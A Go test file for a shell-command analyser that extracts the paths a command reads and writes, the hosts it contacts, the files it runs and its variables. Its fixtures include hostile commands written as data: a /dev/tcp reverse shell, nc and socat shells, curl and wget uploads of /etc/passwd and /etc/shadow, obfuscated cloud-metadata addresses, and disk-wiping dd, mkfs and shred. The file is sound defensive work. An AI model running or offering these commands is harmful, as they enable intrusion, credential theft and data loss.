package facts

import (
	"reflect"
	"strings"
	"testing"
)

func TestPaths(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ text, reads, writes string }{
		{"cat a ../b /c//d /tmp/../etc/./e", "/b /c/d /etc/e /work/a", ""},
		{"cat ~/x $HOME/y /home/ana/z /home/anabel/z ~bob/z", "/home/anabel/z ~/x ~/y ~/z ~bob/z", ""},
		{"rm -rf ~/.. ~/../bob", "", "/home /home/bob"},
		{"cat /proc/self/root/etc/passwd /proc/1/root/x", "/etc/passwd /x", ""},
		{"cat *.go /etc/{a,b}.conf", "/etc/a.conf /etc/b.conf /work/*.go", ""},
		{"rm \"$DIR\"/x $UNSET/", "", "$DIR/x $UNSET/"},
		{"cd /etc; cat a; (cd /tmp; cat b); cat c", "/etc/a /etc/c /tmp/b", ""},
		{"cd; cat a", "~/a", ""},
		{"cd /tmp || exit 1; rm -rf *", "", "/tmp/*"},
		{"cd src && make; rm -rf build", "", "/work/src/build"},
		{"if x; then cd /a; fi; rm b", "", "b"},
		{"pushd /a; rm b; popd; rm c", "", "/a/b c"},
		{"env -C /etc rm x; sudo -D /var rm y", "", "/etc/x /var/y"},
		{"a < in > out 2>> err &> all", "/work/in", "/work/all /work/err /work/out"},
		{"echo x > /dev/sda; a > /dev/null 2>&1 < /dev/stdin", "", "/dev/sda"},
		{"{ a; b; } > c", "", "/work/c"},
		{"cp a b c/", "/work/a /work/b", "/work/c"},
		{"mv a /etc/", "", "/etc /work/a"},
		{"ln -s /etc/passwd x", "/etc/passwd", "/work/x"},
		{"install -m 755 a /usr/local/bin/a", "/work/a", "/usr/local/bin/a"},
		{"dd if=/dev/zero of=/dev/sda bs=1M", "", "/dev/sda"},
		{"chmod -R u+x a; chown me:us b; chmod --reference=r c", "/work/r", "/work/a /work/b /work/c"},
		{"chattr +i a", "", "/work/a"},
		{"sed -i.bak 's/a/b/' f; sed -n p g", "/work/f /work/g", "/work/f"},
		{"sed -f s f; grep -e x f g; grep x h; awk '{print}' i", "/work/f /work/g /work/h /work/i /work/s", ""},
		{"perl -pi -e 's/a/b/' f", "/work/f", "/work/f"},
		{"tee -a /etc/hosts < x", "/work/x", "/etc/hosts"},
		{"tar xzf a.tgz -C /opt", "/work/a.tgz", "/opt"},
		{"tar czf out.tgz -C /etc passwd", "/etc /work/passwd", "/work/out.tgz"},
		{"unzip a.zip -d /opt; zip -r b.zip c", "/work/a.zip /work/c", "/opt /work/b.zip"},
		{"curl -d @/etc/passwd -F x=@/etc/shadow -T up -o down https://x.test", "/etc/passwd /etc/shadow /work/up", "/work/down"},
		{"curl -sO https://x.test/a.sh; wget -P /opt https://x.test/b.sh?c=d", "", "/opt /opt/b.sh /work/a.sh"},
		{"curl file:///etc/passwd", "/etc/passwd", ""},
		{"wget --post-file=/etc/passwd -O- https://x.test", "/etc/passwd", ""},
		{"scp -i ~/.ssh/id_rsa f u@h.test:/tmp; scp u@h.test:x .", "/work/f ~/.ssh/id_rsa", "/work"},
		{"rsync -av --delete src/ u@h.test:/dst", "/work/src", ""},
		{"find /a /b -name '*.x' -delete", "/a /b", "/a/**/*.x /a/*.x /b/**/*.x /b/*.x"},
		{"find /a -exec rm {} +", "/a", "/a/* /a/**/*"},
		{"find /a -name '*.x' -print0 | xargs -0 rm", "/a", "/a/**/*.x /a/*.x"},
		{"mkfs.ext4 /dev/sda1; wipefs -a /dev/sdb; shred -n 3 /dev/sdc", "", "/dev/sda1 /dev/sdb /dev/sdc"},
		{"truncate -s 0 a; touch -r b c; mkdir -p -m 700 d", "/work/b", "/work/a /work/c /work/d"},
		{"crontab jobs; source env.sh; . ./x", "/work/env.sh /work/jobs /work/x", ""},
		{"docker run -v /:/host:ro -v /etc:/e -v vol:/v alpine", "/ /etc", "/etc"},
		{"openssl enc -in a -out b; gpg -o c --decrypt d; sort -o e f", "/work/a /work/d /work/f", "/work/b /work/c /work/e"},
		{"cp -- -a b; rm -- -c", "/work/-a", "/work/-c /work/b"},
	} {
		got := Shell(c.text, work)
		if r, w := strings.Join(got.Reads, " "), strings.Join(got.Writes, " "); r != c.reads || w != c.writes {
			t.Errorf("%s:\n got reads %s, writes %s\nwant reads %s, writes %s", c.text, r, w, c.reads, c.writes)
		}
	}
}

func TestPathsStayRelativeInAnUnknownPlace(t *testing.T) {
	t.Parallel()
	got := Shell("rm ./a/../b; cd c; rm d; cd /e; rm f", Place{})
	if want := []string{"/e/f", "b", "c/d"}; !reflect.DeepEqual(got.Writes, want) {
		t.Errorf("writes %v, want %v", got.Writes, want)
	}
}

func TestHosts(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"curl https://User:pw@X.Test:8443/a?b#c": "x.test",
		"curl x.test/i.sh; wget y.test":          "x.test y.test",
		"curl -x http://p.test:80 --url https://u.test -H 'Referer: https://no.test' -d '{\"u\":\"https://no.test\"}'": "p.test u.test",

		"curl http://2852039166/ http://0xA9FEA9FE http://0251.0376.0251.0376 http://169.254.43518": "169.254.169.254",
		"curl http://[::ffff:169.254.169.254]/ http://[::1]:80/":                                    "169.254.169.254 ::1",
		"curl \"https://$H/x\"":                    "$H",
		"ssh -p 22 root@h.test ls; sftp u@s.test":  "h.test s.test",
		"ssh -J jump.test u@h.test":                "h.test jump.test",
		"scp a u@h.test:/b; rsync c.test:d e":      "c.test h.test",
		"nc -e /bin/sh 10.0.0.1 99; ncat h.test 1": "10.0.0.1 h.test",
		"nc -l 4444":                                                       "",
		"socat TCP:h.test:80 EXEC:sh":                                      "h.test",
		"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1":                           "10.0.0.1",
		"ping -c 1 8.8.8.8; telnet t.test 80":                              "8.8.8.8 t.test",
		"dig +short @1.1.1.1 x.test; nslookup y.test":                      "1.1.1.1 x.test y.test",
		"psql -h db.test -c x; mysql -hmy.test; redis-cli -h r.test":       "db.test my.test r.test",
		"psql postgres://u:p@db.test:5432/x":                               "db.test",
		"git clone git@github.com:a/b.git; git push https://x.test/a main": "github.com x.test",
		"git push origin main":                                             "",
		"git fetch origin a:b":                                             "",
		"pip install --index-url https://i.test/simple x":                  "i.test",
		"sudo curl https://x.test":                                         "x.test",
		"echo https://no.test; grep https://no.test f":                     "",
		"bash -c 'echo https://no.test'":                                   "",
		"docker pull registry.test/a":                                      "",
		"unheard-of https://x.test":                                        "x.test",
	} {
		if got := strings.Join(Shell(text, work).Hosts, " "); got != want {
			t.Errorf("%s: hosts %q, want %q", text, got, want)
		}
	}
}

func TestFilesRun(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"sh ./x.sh a; ./y; source z; . ~/.p; python3 q.py": "/work/q.py /work/x.sh /work/y /work/z ~/.p",
		"/bin/ls; /usr/bin/env python3 a.py":               "/work/a.py",
		"bash < a; cat b | sh; sudo ./c; node d.js":        "/work/a /work/b /work/c /work/d.js",
		"python3 -m pytest; bash -c ls; ls ./a":            "",
		"BASH_ENV=./e bash -c ls":                          "/work/e",
		"env BASH_ENV=./e bash -c ls":                      "/work/e",
		"cd /opt && ./configure":                           "/opt/configure",

		// What ".." leads to is left to the file system, except for the shell's own cd.
		"sh sub/../x.sh; sub/.././y":               "/work/sub/../x.sh /work/sub/../y",
		"cd sub && sh ../x.sh && cd .. && sh y.sh": "/work/sub/../x.sh /work/y.sh",
		"cd -P sub/.. && sh x.sh":                  "/work/sub/../x.sh",
		"env -C sub/.. sh x.sh":                    "/work/sub/../x.sh",
		"/usr/bin/../../work/x; ../bin/y":          "/usr/bin/../../work/x /work/../bin/y",
		"python3 -c 'import subprocess as s; s.run([\"sh\", \"x.sh\"], cwd=\"sub/..\")'": "/work/sub/../x.sh",

		// The home folder is one, but a "~" in quotes is not.
		"sh ~/a; sh $HOME/b; sh \"$HOME/c\"; x=~/d; . $x; cd; sh e": "~/a ~/b ~/c ~/d ~/e",
		"sh '~/x'; sh \\~/y": `\~/x \~/y`,

		// What the text does not tell is spelt as it stands there.
		"sh \"$X/a\"; sh $Y; sh b*.sh; ./c?; sh < d*": "$X/a $Y /work/b*.sh /work/c? /work/d*",
		"cd -; sh x":                "$PWD/x",
		"popd; cd sub; sh x":        "$PWD/sub/x",
		"cd $X; sh x":               "$X/x /work/x",
		"cd '~'; sh x":              "$PWD/~/x",
		"CDPATH=/a; cd sub && sh x": "$PWD/work/sub/x",

		// A change of folder may fail, unless what follows depends on it.
		"cd a; sh x":         "/work/a/x /work/x",
		"cd a && ls; sh x":   "/work/a/x /work/x",
		"cd a || exit; sh x": "/work/a/x",
		"cd a || ls; sh x":   "$PWD/x",
		"cd -; cd /b; sh y":  "$PWD/y /b/y /work/y",
		"(cd a; ls); sh x":   "/work/x",

		"if b; then cd a; fi; sh x":                                "$PWD/x",
		"PATH=/a; . x; . ./y":                                      "$PATH/x /work/x /work/y",
		"python3 -c 'import os; os.chdir(X); os.system(\"sh x\")'": "$PWD/x",
		"sh /proc/self/cwd/x; sh /dev/fd/3 3< y":                   "/work/x /work/y",

		// There are more ways to run a file than its name.
		"sh - a; bash -x -- b; bash - -c":                    "/work/-c /work/a /work/b",
		"bash --rcfile a -i; bash --init-file b -i":          "/work/a /work/b",
		"awk -f a x; sed -f b x; gawk --file=c x; sed -nf d": "/work/a /work/b /work/c /work/d",
		"deno run -A a.ts; bun run b.ts":                     "/work/a.ts /work/b.ts /work/deno.json /work/package.json",
		"ruby a.rb; perl b.pl; php c.php; php -f d; lua e":   "/work/a.rb /work/b.pl /work/c.php /work/d /work/e",
		"java -jar a.jar; java B.java; go run c.go d.go x":   "/work/B.java /work/a.jar /work/c.go /work/d.go",
		"node -r ./a.js b.js":                                "/work/a.js /work/b.js",
		"make -f a; gmake --file=b":                          "/work/a /work/b",
		"make test":                                          "/work/GNUmakefile /work/Makefile /work/makefile",
		"make -C sub":                                        "/work/sub/GNUmakefile /work/sub/Makefile /work/sub/makefile",
		"npm run build; npm ls":                              "/work/.npmrc /work/package.json",
		"docker compose -f a.yml up":                         "/work/a.yml",
		"docker compose up": "/work/compose.yaml /work/compose.yml /work/docker-compose.yaml " +
			"/work/docker-compose.yml",
		"psql -f a; xargs -a b echo; mysql < c": "",

		// What is put into a file that runs counts like that file.
		"cp y x; sh x; cp a b":             "/work/x /work/y",
		"mv sub/../y x; sh x":              "/work/sub/../y /work/x",
		"cp z y; ln -sf y x; ./x":          "/work/x /work/y /work/z",
		"cp y d/; sh d/y":                  "/work/d/y /work/y",
		"cp -r a b; sh b/x":                "/work/a/x /work/b/x",
		"cat y | sed s/a/b/ > x; sh x":     "/work/x /work/y",
		"tar xf a.tar; sh x":               "/work/a.tar /work/x",
		"cp y* x; sh x":                    "/work/x /work/y*",
		"cat a > b; gcc -o x y.c; ./x; ls": "/work/x /work/y.c",
	} {
		if got := strings.Join(Shell(text, work).Files, " "); got != want {
			t.Errorf("%s: files %q, want %q", text, got, want)
		}
	}
}

func TestVariablesAndAssigns(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ text, variables, assigns string }{
		{"echo $A ${B} \"$C\" ${D:-x} ${#E} ${F%y} $((G+1))", "A B C D E F G", ""},
		{"x=1; echo $x; y=$x z=$Q cmd", "Q", "x y z"},
		{"for i in 1; do echo $i; done; read r; echo $r", "", "i r"},
		{"echo $? $$ $! $# $0 $1 $@", "", ""},
		{"echo '$A' \\$B", "", ""},
		{"cat <<E\n$A\nE", "A", ""},
		{"cat <<'E'\n$A\nE", "", ""},
		{"echo $HOME ~", "HOME", ""},
		{"env LD_PRELOAD=x ls; export PATH=/x:$PATH", "PATH", "LD_PRELOAD PATH"},
		{"bash -c 'echo $A'", "A", ""},
	} {
		got := Shell(c.text, work)
		if v, s := strings.Join(got.Variables, " "), strings.Join(got.Assigns, " "); v != c.variables || s != c.assigns {
			t.Errorf("%s: variables %q, assigns %q; want %q, %q", c.text, v, s, c.variables, c.assigns)
		}
	}
}
